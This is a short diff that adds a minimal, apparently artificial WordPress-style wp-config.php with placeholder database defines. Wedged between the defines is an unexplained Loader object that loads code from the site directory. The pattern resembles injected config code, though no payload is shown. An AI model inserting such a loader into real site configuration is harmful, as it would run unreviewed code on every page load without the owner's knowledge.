@@ -1,0 +1,6 @@
+<?php
+define('DB_NAME','n');
+$o = new Loader(__DIR__);
+$o->load();
+define('DB_USER','u');
+require_once ABSPATH . 'wp-settings.php';
